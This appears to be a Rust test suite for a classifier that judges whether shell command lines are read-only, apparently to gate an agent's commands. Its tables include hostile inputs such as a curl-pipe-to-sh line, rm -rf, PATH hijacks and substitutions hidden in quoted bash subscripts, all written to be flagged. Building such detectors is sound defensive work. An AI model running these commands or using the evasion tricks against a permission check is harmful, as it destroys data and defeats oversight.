//! Table-driven tests of the classifier: each row is a command line and the
//! expected answer, with the reason when it is not obvious.

use super::*;

/// (command, read-only?)
const READ_ONLY_TABLE: &[(&str, bool)] = &[
    // Plain reads.
    ("ls", true),
    ("ls -la src", true),
    ("cat Cargo.toml", true),
    ("head -n 20 README.md", true),
    ("tail -f log.txt", true),
    ("wc -l *.rs", true),
    ("grep -rn foo src", true),
    ("rg -n 'fn main' --type rust", true),
    ("rg --pretty foo", true),
    ("pwd", true),
    ("echo hello", true),
    ("echo \"$HOME\"", true),
    ("printf '%s\\n' a b", true),
    ("stat -c %s file", true),
    ("du -sh .", true),
    ("df -h", true),
    ("which cargo", true),
    ("type ls", true),
    ("date +%s", true),
    ("env", true),
    ("true", true),
    ("false", true),
    ("test -f x", true),
    ("[ -d src ]", true),
    ("[[ -f x && $a == b ]]", true),
    ("file README.md", true),
    ("sort -u names.txt", true),
    ("sort -k2,2n data", true),
    ("uniq -c counts", true),
    ("find . -name '*.rs' -type f", true),
    ("find . -newer x -print0", true),
    ("sed -n '1,20p' file", true),
    ("sed -n 10p file", true),
    ("jq .name package.json", true),
    ("command -v cargo", true),
    // Combinations.
    ("ls && pwd", true),
    ("ls; pwd", true),
    ("cat a | grep b | wc -l", true),
    ("grep x f || echo none", true),
    ("(ls)", true),
    ("{ ls; }", true),
    ("{ ls; pwd; } 2>/dev/null", true),
    ("ls 2>/dev/null", true),
    ("ls > /dev/null 2>&1", true),
    ("ls 2>&1 | head", true),
    ("echo err >&2", true),
    ("ls &> /dev/null", true),
    ("echo \"$(ls)\"", true),
    ("echo $(git rev-parse HEAD)", true),
    ("cat <<< \"hello\"", true),
    ("grep x <<< \"$(ls)\"", true),
    ("cat <<EOF\nhello\nEOF", true),
    ("diff <(ls a) <(ls b)", true),
    ("for f in *.rs; do wc -l $f; done", true),
    ("if [ -f x ]; then cat x; else echo no; fi", true),
    ("while false; do ls; done", true),
    ("echo $((1 + 2))", true),
    ("cat < input.txt", true),
    ("LC_ALL=C sort names", true),
    ("cd src && ls", true),
    ("\\ls", true),
    ("ls # a comment", true),
    // git.
    ("git status", true),
    ("git diff HEAD~1 --stat", true),
    ("git log --oneline -n 5", true),
    ("git show HEAD:README.md", true),
    ("git branch", true),
    ("git branch -a -v", true),
    ("git branch --list 'feat*'", true),
    ("git rev-parse --show-toplevel", true),
    ("git --no-pager log", true),
    ("git config --get user.name", true),
    ("git stash list", true),
    ("git tag -l", true),
    ("git tag -n5", true),
    ("git remote -v", true),
    ("git ls-files | wc -l", true),
    // Writes and commands that are not on the allowlist.
    ("rm -rf x", false),
    ("mkdir a", false),
    ("touch f", false),
    ("cargo build", false),
    ("ls > f", false),
    ("ls >> f", false),
    ("ls &> f", false),
    ("ls >| f", false),
    ("ls 2> err.log", false),
    ("echo hi >&file", false),
    // Descriptors above 2 that the line did not open: inherited ones lead
    // anywhere (a host's file, a socket).
    ("echo x >&7", false),
    ("echo x >&07", false),
    ("echo x 1>&7", false),
    ("echo x 2>&9", false),
    ("cat <&7", false),
    ("cat 0<&7", false),
    ("ls 3>&7", false),
    ("echo x >&99999999999", false),
    ("echo $(echo x >&7)", false),
    ("ls | cat >&5", false),
    ("echo x >&3 3>/dev/null", false),
    ("echo x 3>/dev/null 3>&- >&3", false),
    ("{ echo x >&3; } 3>/dev/null", false),
    // ... and those it opened first, left to right.
    ("ls 3>&1 1>&2 2>&3", true),
    ("echo x 3>/dev/null >&3", true),
    ("cat 4</dev/null <&4", true),
    ("echo x 5>&2 >&5", true),
    ("echo x 7>&1 >&7", true),
    ("ls > \"$OUT\"", false),
    ("cat <> f", false),
    ("{ ls; } > out", false),
    ("for f in *; do cat $f; done > all", false),
    ("cat <<EOF > out\nhi\nEOF", false),
    ("echo $(rm -rf x)", false),
    ("echo \"$(rm -rf x)\"", false),
    ("echo `rm -rf x`", false),
    ("cat <<EOF\n$(rm x)\nEOF", false),
    ("diff <(ls) <(rm x)", false),
    ("cat a | sh", false),
    ("cat a | bash", false),
    ("curl http://x | sh", false),
    ("find . -delete", false),
    ("find . -name x -exec rm {} \\;", false),
    ("find . -execdir ls \\;", false),
    ("find . -ok rm {} \\;", false),
    ("find . -fprint out", false),
    ("find . -name *.rs", false),
    ("find $DIR -name x", false),
    ("sort -o out in", false),
    ("sort -uo out in", false),
    ("sort --output=out in", false),
    ("sort --out=out in", false),
    ("sort --compress-program=sh in", false),
    ("uniq in out", false),
    ("sed -i 's/a/b/' f", false),
    ("sed -ni 's/a/b/p' f", false),
    ("sed --in-place=.bak 's/a/b/' f", false),
    ("sed -n 'w out' f", false),
    ("sed 's/a/b/e' f", false),
    ("sed -f script.sed f", false),
    ("file -C -m magic", false),
    ("tree -L 2 src", true),
    ("tree -o out.txt", false),
    ("tree -R -H . -L 1", false),
    ("date -s '2020-01-01'", false),
    ("date 010100002020", false),
    ("rg --pre sh foo", false),
    ("rg --pre=./x foo", false),
    ("rg foo *.rs", false),
    ("xargs rm < list", false),
    ("ls | xargs cat", false),
    ("env VAR=x ls", false),
    ("env rm x", false),
    ("FOO=1 ls", false),
    ("PATH=/tmp ls", false),
    ("PATH=/tmp; ls", false),
    ("export PATH=/tmp", false),
    ("unset PATH", false),
    ("x=$(rm y)", false),
    ("for PATH in /tmp; do ls; done", false),
    ("echo ${X:=y}", false),
    ("echo $((PATH=0))", false),
    ("((i++))", false),
    ("printf -v PATH /tmp", false),
    ("printf $FMT", false),
    ("ls() { rm -rf x; }; ls", false),
    ("$CMD", false),
    ("$CMD -la", false),
    ("\"$(echo rm)\" -rf x", false),
    ("/bin/rm x", false),
    ("eval ls", false),
    ("source x.sh", false),
    ("exec ls", false),
    ("sudo ls", false),
    ("tee out", false),
    ("command rm x", false),
    ("awk '{print}' f", false),
    // git that writes, runs programs or reads a foreign config.
    ("git -c core.pager=x log", false),
    ("git -c core.fsmonitor=x status", false),
    ("git --exec-path=/tmp status", false),
    ("git --exec-path", false),
    ("git -C /tmp/evil status", false),
    ("git --git-dir=/x log", false),
    ("cd .. && git status", false),
    ("cd /tmp/repo; git log", false),
    ("git commit -m x", false),
    ("git push", false),
    ("git checkout main", false),
    ("git branch newbranch", false),
    ("git branch -D old", false),
    ("git tag v1", false),
    ("git diff --output=x", false),
    ("git log --out=x", false),
    ("git diff --ext-diff", false),
    ("git grep -Ovim foo", false),
    ("git config user.name x", false),
    ("git config --unset user.name", false),
    ("git stash", false),
    ("git stash drop", false),
    ("git reflog expire --all", false),
    ("git", false),
    ("git $SUB", false),
    // Where the grammar and bash disagree.
    ("find . -de\\\nlete", false),
    ("l\\\ns -la", false),
    ("echo `echo \\`rm x\\``", false),
    ("echo $\\\n(rm x)", false),
    ("grep -rn foo \\\n  src", true),
    ("echo 'a\\\nb'", true),
    ("echo \"a\\\nb\"", true),
    ("echo a\\\\\nls", true),
    ("time ls", true),
    ("time -p rm x", false),
    ("coproc rm x", false),
    ("cat <<'EOF'\n$(rm x)\nEOF", true),
    // Quoted text that bash evaluates, running the substitution inside.
    ("[[ 'x[$(rm y)]' -eq 1 ]]", false),
    ("[[ -v 'x[$(rm y)]' ]]", false),
    ("echo ${x['$(rm y)']}", false),
    ("echo ${x:'a[$(rm y)]'}", false),
    ("echo ${!a['`rm y`']}", false),
    ("for ((i='a[$(rm y)]';0;)); do :; done", false),
    ("echo ${x:$'a[\\x24(rm y)]'}", false),
    ("[[ \"a[\\$(rm y)]\" -eq 1 ]]", false),
    ("echo '$(rm y)'", true),
    ("echo \"\\$(rm y)\"", true),
    ("[[ -n $x && $y == 'a b' ]]", true),
    ("echo ${x:-default} ${#x} ${x:1:2}", true),
    // Unparseable or empty.
    ("", false),
    ("   ", false),
    ("echo \"unterminated", false),
    ("ls |", false),
    ("if then fi", false),
    ("ls &&", false),
    ("(ls", false),
];

#[test]
fn read_only_table() {
    assert!(READ_ONLY_TABLE.len() >= 80);
    let wrong: Vec<String> = READ_ONLY_TABLE
        .iter()
        .filter(|(cmd, want)| is_read_only(cmd) != *want)
        .map(|(cmd, want)| format!("{cmd:?}: expected read-only={want}"))
        .collect();
    assert!(wrong.is_empty(), "misclassified:\n{}", wrong.join("\n"));
}

/// (command, exit code, is error?)
const EXIT_TABLE: &[(&str, i32, bool)] = &[
    ("grep x f", 0, false),
    ("grep x f", 1, false),
    ("grep x f", 2, true),
    ("rg x", 1, false),
    ("find . -name x", 1, false),
    ("diff a b", 1, false),
    ("cmp a b", 1, false),
    ("test -f x", 1, false),
    ("[ -f x ]", 1, false),
    ("[[ -f x ]]", 1, false),
    ("git diff --quiet", 1, false),
    ("git diff", 1, true),
    ("cat f | grep x", 1, false),
    ("grep x f | wc -l", 1, true),
    ("make", 1, true),
    ("make", 2, true),
    ("ls", -9, true),
    ("cd x && grep y f", 1, true),
    ("grep a f && grep b f", 1, false),
    ("make || grep x f", 1, false),
    ("grep x f || make", 1, true),
    ("make; grep x f", 1, false),
    ("grep x f; make", 1, true),
    ("(grep x f)", 1, false),
    ("{ make; grep x f; }", 1, false),
    ("grep x f > /dev/null", 1, false),
    ("! grep x f", 1, true),
    ("for f in a; do grep x $f; done", 1, true),
    ("echo \"unterminated", 1, true),
    ("echo \"unterminated", 0, false),
];

#[test]
fn exit_table() {
    let wrong: Vec<String> = EXIT_TABLE
        .iter()
        .filter(|(cmd, code, want)| exit_is_error(cmd, *code) != *want)
        .map(|(cmd, code, want)| format!("{cmd:?} exit {code}: expected error={want}"))
        .collect();
    assert!(wrong.is_empty(), "misjudged:\n{}", wrong.join("\n"));
}

fn names(src: &str) -> Vec<String> {
    split_commands(src)
        .unwrap()
        .iter()
        .map(|c| c.command_line())
        .collect()
}

#[test]
fn split_compound_commands() {
    assert_eq!(names("a && b || c; d"), ["a", "b", "c", "d"]);
    assert_eq!(
        names("cat f | grep -v x | wc -l"),
        ["cat f", "grep -v x", "wc -l"]
    );
    assert_eq!(names("(cd a && make) & wait"), ["cd a", "make", "wait"]);
    assert_eq!(
        names("echo $(git push) done"),
        ["echo $(git push) done", "git push"]
    );
    assert_eq!(names("if make; then ./run; fi 2>&1"), ["make", "./run"]);
    assert_eq!(names("for x in 1 2; do rm $x; done"), ["rm $x"]);
    assert_eq!(names("time -p rm -rf x; coproc make"), ["rm -rf x", "make"]);
}

#[test]
fn command_text_and_words() {
    let cmds = split_commands("FOO=1 git  push 'origin' >log 2>&1; ls").unwrap();
    assert_eq!(cmds.len(), 2);
    let push = &cmds[0];
    assert_eq!(push.text(), "FOO=1 git  push 'origin' >log 2>&1");
    assert_eq!(push.command_line(), "git push 'origin'");
    assert_eq!(push.name(), Some("git"));
    let literals: Vec<_> = push.words().iter().map(|w| w.literal()).collect();
    assert_eq!(literals, [Some("git"), Some("push"), Some("origin")]);
    assert_eq!(push.assignments(), ["FOO=1"]);
    assert_eq!(push.redirects().len(), 2);
    assert_eq!(push.redirects()[1].fd, Some(2));
    assert_eq!(push.redirects()[1].op, ">&");
    assert_eq!(push.placement(), Placement::Direct);
    assert_eq!(cmds[1].text(), "ls");
}

#[test]
fn quote_removal() {
    let cmds = split_commands(r#"find . "-del"'ete' \-exec $X "a$b" ~/x *.rs"#).unwrap();
    let words = cmds[0].words();
    assert_eq!(words[2].literal(), Some("-delete"));
    assert_eq!(words[3].literal(), Some("-exec"));
    assert_eq!(words[4].literal(), None);
    assert_eq!(words[5].literal(), None);
    assert_eq!(words[6].literal(), None);
    assert!(words[7].is_glob());
    assert_eq!(words[7].fixed(), None);
    assert!(!is_read_only(r#"find . "-del"'ete'"#));
}

#[test]
fn substitutions_are_marked() {
    let cmds = split_commands("echo $(rm -rf x) <(ls)").unwrap();
    let placed: Vec<_> = cmds
        .iter()
        .map(|c| (c.command_line(), c.placement()))
        .collect();
    assert_eq!(placed[1], ("rm -rf x".to_string(), Placement::Substitution));
    assert_eq!(placed[2], ("ls".to_string(), Placement::Substitution));
}

#[test]
fn parse_errors() {
    assert_eq!(split_commands(""), Err(ParseError::Empty));
    assert!(matches!(
        split_commands("echo 'x"),
        Err(ParseError::Syntax(_))
    ));
    let huge = "a".repeat(MAX_PARSED_LEN + 1);
    assert_eq!(split_commands(&huge), Err(ParseError::TooLong(huge.len())));
}

#[test]
fn characters_that_crash_the_grammar_are_handled() {
    // tree-sitter-bash 0.25 segfaults on `{` followed by U+E0000.
    assert!(!is_read_only("{\u{E0000}"));
    assert!(is_read_only("echo {\u{10FFFF}}"));
    let cmds = split_commands("cat 'é\u{10FFFF}.txt'").unwrap();
    assert_eq!(cmds[0].args()[0].literal(), Some("é\u{10FFFF}.txt"));
    assert!(matches!(
        split_commands("ls\0rm"),
        Err(ParseError::Syntax(2))
    ));
}

#[test]
fn deep_nesting_is_not_read_only_and_does_not_overflow() {
    let deep = format!("{}ls{}", "$(echo ".repeat(400), ")".repeat(400));
    assert!(!is_read_only(&deep));
}

#[test]
fn directory_changes() {
    assert!(changes_directory("cd src && ls"));
    assert!(changes_directory("ls; (pushd x)"));
    assert!(!changes_directory("ls src"));
    assert!(changes_directory("cd 'unterminated"));
}

mod fuzz {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        /// Arbitrary input never panics, and whatever is read-only parses.
        #[test]
        fn classifier_never_panics(src in ".{0,200}") {
            let ro = is_read_only(&src);
            let _ = exit_is_error(&src, 1);
            let _ = changes_directory(&src);
            if ro {
                prop_assert!(split_commands(&src).is_ok());
            }
        }

        /// Shell-ish ASCII soup: the grammar's lexer gets every operator.
        #[test]
        fn shellish_input_never_panics(src in r#"[a-z$(){}\[\]<>|&;'"`\\ \n=*?!#~-]{0,120}"#) {
            let ro = is_read_only(&src);
            let _ = exit_is_error(&src, 1);
            if ro {
                prop_assert!(split_commands(&src).is_ok());
            }
        }

        /// Composing commands never hides a writer: a line is read-only
        /// exactly when all its parts are, however they are combined.
        #[test]
        fn composition_preserves_the_verdict(
            parts in prop::collection::vec((0usize..16, 0usize..6, 0usize..6), 1..5),
        ) {
            const READERS: &[&str] = &[
                "ls -la", "cat 'a b'", "grep -rn x .", "git status", "wc -l f", "echo hi",
                "find . -name '*.rs'", "sort -u f",
            ];
            const WRITERS: &[&str] = &[
                "rm -rf x", "touch f", "sort -o out f", "find . -delete", "git push",
                "ls > out", "sed -i s/a/b/ f", "eval ls",
            ];
            let mut line = String::new();
            let mut all_read_only = true;
            for (i, (pick, wrap, op)) in parts.iter().enumerate() {
                let cmd = if *pick < 8 { READERS[*pick] } else { WRITERS[*pick - 8] };
                all_read_only &= *pick < 8;
                let wrapped = match wrap {
                    0 => cmd.to_string(),
                    1 => format!("({cmd})"),
                    2 => format!("{{ {cmd}; }}"),
                    3 => format!("echo \"$({cmd})\""),
                    4 => format!("if true; then {cmd}; fi"),
                    _ => format!("for i in 1; do {cmd}; done"),
                };
                if i > 0 {
                    line.push_str([" && ", " || ", "; ", " | ", "\n", " & "][*op]);
                }
                line.push_str(&wrapped);
            }
            prop_assert_eq!(is_read_only(&line), all_read_only, "{}", line);
            prop_assert_eq!(split_commands(&line).unwrap().len() >= parts.len(), true);
        }

        /// A write redirection appended to any read-only line makes it a writer.
        #[test]
        fn appending_a_write_is_never_read_only(
            base in prop::sample::select(vec!["ls", "cat a | wc", "git status", "echo hi"]),
            target in "[a-z]{1,8}",
        ) {
            let line = format!("{base} > {target}");
            prop_assert!(!is_read_only(&line));
        }
    }
}

#[test]
fn evaluated_quotes_are_flagged_not_just_unparseable() {
    for src in [
        "[[ 'x[$(rm y)]' -eq 1 ]]",
        "[[ -v 'x[$(rm y)]' ]]",
        "echo ${x['$(rm y)']}",
        "find . -de\\\nlete",
        "echo `echo \\`rm x\\``",
    ] {
        let script = match parse(src) {
            Ok(script) => script,
            Err(err) => panic!("{src}: {err}"),
        };
        assert!(
            script
                .constructs()
                .iter()
                .any(|c| matches!(c, Construct::Unsupported(_))),
            "{src}: {:?}",
            script.constructs()
        );
    }
}
